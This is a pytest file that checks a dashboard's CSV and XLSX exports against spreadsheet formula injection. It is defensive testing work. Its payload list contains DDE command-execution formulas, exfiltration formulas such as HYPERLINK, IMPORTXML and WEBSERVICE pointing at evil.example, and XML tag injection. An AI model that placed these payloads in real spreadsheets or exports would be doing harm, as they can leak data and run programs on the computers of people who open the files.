"""Nothing that somebody typed becomes a formula, a link or markup, in no format, neither in a cell nor in a heading."""

import csv
import shutil
import subprocess
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest

from dashboard.access import EXPORT, Viewer
from dashboard.exports.document import Document, Section
from dashboard.exports.formats import export, format_named
from dashboard.exports.neutral import DANGEROUS
from dashboard.exports.sheet import Column, Sheet
from rollup.metrics.metric import Unit
from tests.documents import document
from tests.workbooks import parts, sheets

PAYLOADS = (
    "=1+1",
    "=1+1&A1",
    "+1+1",
    "-1+1",
    "-10",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "==1+1",
    "=-1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd","/c calc","1")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@import",
    '="a"&"b"',
    "=1+1;2",
    '=1,"=2"',
    '"=1+1"',
    "{=1+1}",
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:Cover!A1",
    "<r><t>x</t></r>",
    '<r></t></is></c><c r="Z9"><f>1+1</f><v>2</v></c></r>',
    "</t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
)
ANALYST = Viewer("anna", 1, frozenset({EXPORT}))


def poisoned() -> Document:
    """A table in which everything that people name is one of them: cells, headings, titles, filters."""
    columns = (Column("resource_name"), Column("currency"), Column("revenue", Unit.MONEY))
    lines = tuple((payload, "SEK", Decimal(-10)) for payload in PAYLOADS)
    tables = [Section("rows", "Rows", Sheet(columns, lines), "=1+1")]
    for number, payload in enumerate(PAYLOADS):
        heading = Sheet((Column(payload), Column("orders", Unit.COUNT)), ((payload, -10),))
        tables.append(Section(f"t{number}", payload, heading, payload))
    return document(*tables, title="=1+1", chain="=1+1", venues=PAYLOADS, filters=(("=1+1", "=1+1"),))


def test_there_are_thirty() -> None:
    assert len(set(PAYLOADS)) >= 30


def test_no_field_of_a_csv_begins_like_a_formula() -> None:
    made = export(ANALYST, poisoned(), format_named("csv"))
    count = 0
    with ZipFile(BytesIO(made)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            for row in csv.reader(StringIO(text, newline="")):
                for field in row:
                    count += 1
                    is_number = field.lstrip("-").replace(".", "").isdigit()
                    assert is_number or not field.startswith(DANGEROUS), field
    assert count > 100


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    made = export(ANALYST, poisoned(), format_named("xlsx"))
    for name, xml in parts(made).items():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in xml, name
            assert "<hyperlink" not in xml, name
        assert "externalLink" not in name
        assert "vbaProject" not in name
        assert 'TargetMode="External"' not in xml
    table = sheets(made)["Rows"]
    assert len(table) == len(PAYLOADS) + 1
    for payload, row in zip(PAYLOADS, table[1:], strict=True):
        assert row[0].removeprefix("'").replace("\r", "\n") == payload.replace("\r", "\n")
        assert row[2] == Decimal(-10), "a number stays a number"


def test_a_name_that_looks_like_a_negative_number_is_text_and_the_number_beside_it_is_none() -> None:
    columns = (Column("resource_name"), Column("orders", Unit.COUNT))
    table = Section("t", "T", Sheet(columns, (("-10", -10),)))
    made = sheets(export(ANALYST, document(table), format_named("xlsx")))["T"]
    assert made[1] == ["'-10", Decimal(-10)]
    text = export(ANALYST, document(table), format_named("csv")).decode("utf-8-sig")
    assert text.splitlines()[1] == "'-10,-10"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
def test_a_spreadsheet_evaluates_none_of_them(tmp_path: Path) -> None:
    """Read back as LibreOffice understood them: had it evaluated one, a 2 would stand where the text was."""
    source = tmp_path / "rows.xlsx"
    source.write_bytes(export(ANALYST, document(poisoned().sections[0]), format_named("xlsx")))
    home = f"-env:UserInstallation=file://{tmp_path / 'home'}"
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = [
        "soffice",
        "--headless",
        home,
        "--convert-to",
        every_sheet,
        "--outdir",
        str(tmp_path),
        str(source),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=150)
    with (tmp_path / "rows-Rows.csv").open(encoding="utf-8", newline="") as file:
        table = list(csv.reader(file))
    for payload, row in zip(PAYLOADS, table[1:], strict=True):
        expected = payload.replace("\r\n", "\n").replace("\r", "\n")
        assert row[0].removeprefix("'").replace("\r", "\n") == expected
